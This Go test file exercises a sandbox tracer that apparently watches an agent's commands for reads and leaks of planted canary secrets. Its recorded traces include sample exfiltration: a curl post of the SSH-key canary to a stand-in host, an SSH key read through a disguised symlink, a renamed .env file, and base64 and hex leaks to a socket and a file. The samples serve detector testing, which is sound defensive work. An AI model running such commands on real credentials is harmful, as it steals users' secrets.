package oracle

import (
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// testSecrets are planted secrets with fixed canaries, for recorded traces.
var testSecrets = []Secret{
	{Name: "ssh-key", Path: Home + "/.ssh/id_rsa", Canary: "canarysshkey0123456789abcdef"},
	{Name: "dotenv", Path: Project + "/.env", Canary: "canarydotenv0123456789abcdef"},
}

// observe interprets a recorded trace as Run does, without a sandbox.
func observe(t *testing.T, trace string) *Observation {
	t.Helper()
	obs := &Observation{}
	tr := newTracer(obs, testSecrets, 1<<10)
	r := newReader()
	if err := r.each(strings.NewReader(trace), func(c call) { tr.feed(c, r.forking()) }); err != nil {
		t.Fatal(err)
	}
	tr.finish()
	newDetector(testSecrets).collect(obs, func(string) []byte { return nil })
	return obs
}

func readTrace(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestTracerRecorded(t *testing.T) {
	t.Parallel()
	const held = `5 execve("/usr/bin/sh", ["sh"], 0x1 /* 1 var */) = 0
5 chdir("/tmp") = 0
5 clone(child_stack=NULL, flags=SIGCHLD) = 6
6 chdir("/home/agent") = 0
5 clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>
6 clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>
8 execve("/usr/bin/touch", ["touch", "f"], 0x1 /* 1 var */) = 0
8 openat(AT_FDCWD, "f", O_WRONLY|O_CREAT, 0666) = 3
6 <... clone resumed>) = 8
5 <... clone resumed>) = 7
`
	tests := []struct {
		name        string
		trace       string
		files       []FileEffect
		execs       []Exec
		network     []NetEvent
		reads       []string
		secretReads []SecretRead
		leaks       []Leak
	}{
		{
			name:  "bash pipeline, redirections, cd and DNS",
			trace: readTrace(t, "bash.trace"),
			files: []FileEffect{
				{Kind: KindWrite, Path: Project + "/out.txt", Detail: "O_WRONLY|O_CREAT|O_TRUNC", PID: 6, Data: []byte("x\n")},
				{Kind: KindRename, Path: Project + "/out.txt", Target: Project + "/o2", PID: 9},
				{Kind: KindMkdir, Path: Project + "/docs/d", PID: 10},
				{Kind: KindDelete, Path: Project + "/docs/d", Detail: "dir", PID: 11},
				{Kind: KindWrite, Path: "/usr/x", Detail: "O_WRONLY|O_CREAT|O_TRUNC", PID: 6, Err: "EROFS"},
			},
			execs: []Exec{
				{PID: 7, PPID: 6, Depth: 1, Path: "/usr/bin/cat", Argv: []string{"cat", "docs/deploy-key"}},
				{PID: 8, PPID: 6, Depth: 1, Path: "/usr/bin/wc", Argv: []string{"wc", "-c"}},
				{PID: 9, PPID: 6, Depth: 1, Path: "/usr/bin/mv", Argv: []string{"mv", "out.txt", "o2"}},
				{PID: 10, PPID: 6, Depth: 1, Path: "/usr/bin/mkdir", Argv: []string{"mkdir", "d"}},
				{PID: 11, PPID: 6, Depth: 1, Path: "/usr/bin/rm", Argv: []string{"rm", "-r", "d"}},
				{PID: 12, PPID: 6, Depth: 1, Path: "/usr/bin/getent", Argv: []string{"getent", "ahosts", "example.com"}},
			},
			network: []NetEvent{
				{PID: 12, Call: "connect", Family: "AF_INET", Protocol: "UDP", Address: "127.0.0.1", Port: 53},
				{PID: 12, Call: "sendmmsg", Family: "AF_INET", Protocol: "UDP", Address: "127.0.0.1", Port: 53,
					Data: []byte("\xa8\x9f\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"), DNS: []string{"example.com"}},
				{PID: 12, Call: "sendto", Family: "AF_INET", Protocol: "UDP", Address: "127.0.0.1", Port: 53,
					Data: []byte("3\x9e\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x1c\x00\x01"), DNS: []string{"example.com"}},
			},
			reads:       []string{"/etc/passwd", Home + "/.ssh/id_rsa", "/etc/resolv.conf"},
			secretReads: []SecretRead{{Secret: "ssh-key", Path: Home + "/.ssh/id_rsa", Via: Project + "/docs/deploy-key", PID: 7}},
		},
		{
			name:  "dash vforks, a renamed secret, PATH misses, a child seen before its fork returns",
			trace: readTrace(t, "dash.trace"),
			files: []FileEffect{
				{Kind: KindRename, Path: Project + "/.env", Target: Project + "/e", PID: 6},
				{Kind: KindSymlink, Path: Project + "/y", Target: "x", PID: 8},
				{Kind: KindWrite, Path: Project + "/.git/index.lock", Detail: "O_RDWR|O_CREAT|O_EXCL|O_CLOEXEC", PID: 5},
				{Kind: KindRename, Path: Project + "/.git/index.lock", Target: Project + "/.git/index", PID: 5},
			},
			execs: []Exec{
				{PID: 6, PPID: 5, Depth: 1, Path: "/usr/bin/mv", Argv: []string{"mv", ".env", "e"}},
				{PID: 7, PPID: 5, Depth: 1, Path: "/usr/bin/cat", Argv: []string{"cat", "e"}},
				{PID: 8, PPID: 5, Depth: 1, Path: "/usr/bin/ln", Argv: []string{"ln", "-s", "x", "y"}},
				{PID: 5, Depth: 1, Path: "/usr/bin/git", Argv: []string{"git", "status"}},
				{PID: 9, PPID: 5, Depth: 2, Path: "/usr/lib/git-core/git", Argv: []string{"git", "gc", "--auto"}},
			},
			reads:       []string{Project + "/e", Project + "/.git/index.lock"},
			secretReads: []SecretRead{{Secret: "dotenv", Path: Project + "/.env", Via: Project + "/e", PID: 7}},
		},
		{
			name:  "a child whose parent is one of two forks in progress",
			trace: held,
			files: []FileEffect{{Kind: KindWrite, Path: Home + "/f", Detail: "O_WRONLY|O_CREAT", PID: 8}},
			execs: []Exec{{PID: 8, PPID: 6, Depth: 1, Path: "/usr/bin/touch", Argv: []string{"touch", "f"}}},
		},
		{
			name: "leaks to a socket, a file and argv",
			trace: `5 execve("/usr/bin/sh", ["sh"], 0x1 /* 1 var */) = 0
5 execve("/usr/bin/curl", ["curl", "-d", "k=canarysshkey0123456789abcdef", "http://h"], 0x1 /* 1 var */) = 0
5 connect(4<TCP:[1]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ECONNREFUSED (Connection refused)
5 write(3<TCPv6:[[::1]:5->[::1]:80]>, "POST / HTTP/1.1\r\n\r\nk=Y2FuYXJ5ZG90ZW52MDEyMzQ1Njc4OWFiY2RlZg", 60) = 60
5 write(6</tmp/x>, "6361", 4) = 4
5 write(6</tmp/x>, "6e61727964", 10) = 10
5 writev(6</tmp/x>, [{iov_base="6f74656e7630313233343536373839616263646566", iov_len=42}], 1) = 42
5 sendto(7<UNIX-STREAM:[9->10]>, "canarydotenv0123456789abcdef", 28, 0, NULL, 0) = 28
`,
			files: []FileEffect{{Kind: KindWrite, Path: "/tmp/x", PID: 5,
				Data: []byte("63616e617279646f74656e7630313233343536373839616263646566")}},
			execs: []Exec{{PID: 5, Depth: 1, Path: "/usr/bin/curl", Argv: []string{"curl", "-d", "k=canarysshkey0123456789abcdef", "http://h"}}},
			network: []NetEvent{
				{PID: 5, Call: "connect", Family: "AF_INET6", Protocol: "TCP", Address: "::1", Port: 443, Err: "ECONNREFUSED"},
				{PID: 5, Call: "write", Family: "AF_INET6", Protocol: "TCPv6", Address: "::1", Port: 80,
					Data: []byte("POST / HTTP/1.1\r\n\r\nk=Y2FuYXJ5ZG90ZW52MDEyMzQ1Njc4OWFiY2RlZg")},
			},
			leaks: []Leak{
				{Secret: "dotenv", Sink: SinkNetwork, Encoding: "base64", Where: "[::1]:80", PID: 5},
				{Secret: "ssh-key", Sink: SinkArgv, Encoding: "plain", Where: "/usr/bin/curl", PID: 5},
				{Secret: "dotenv", Sink: SinkFile, Encoding: "hex", Where: "/tmp/x", PID: 5},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			obs := observe(t, tt.trace)
			check := func(what string, got, want any) {
				t.Helper()
				if !reflect.DeepEqual(got, want) {
					t.Errorf("%s:\ngot  %+v\nwant %+v", what, got, want)
				}
			}
			check("files", obs.Files, tt.files)
			check("execs", obs.Execs, tt.execs)
			check("network", obs.Network, tt.network)
			check("reads", obs.Reads, tt.reads)
			check("secret reads", obs.SecretReads, tt.secretReads)
			check("leaks", obs.Leaks, tt.leaks)
		})
	}
}

// TestTracerSendsOfAConnectedSocket: a socket in a sandbox's network
// namespace, which strace's annotation does not resolve, sends to the
// address its connect named, and its DNS queries are read as such.
func TestTracerSendsOfAConnectedSocket(t *testing.T) {
	t.Parallel()
	const trace = `5 execve("/usr/bin/bash", ["bash"], 0x1 /* 1 var */) = 0
5 connect(3<UDP:[9001]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0
5 sendto(3<UDP:[9001]>, "\x38\xd3\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", 29, MSG_NOSIGNAL, NULL, 0) = 29
`
	obs := observe(t, trace)
	if len(obs.Network) != 2 {
		t.Fatalf("network %+v, want a connect and a send", obs.Network)
	}
	if n := obs.Network[1]; n.Address != "127.0.0.1" || n.Port != 53 || !slices.Equal(n.DNS, []string{"example.com"}) {
		t.Errorf("the send is %+v, want one to 127.0.0.1:53 asking for example.com", n)
	}
}
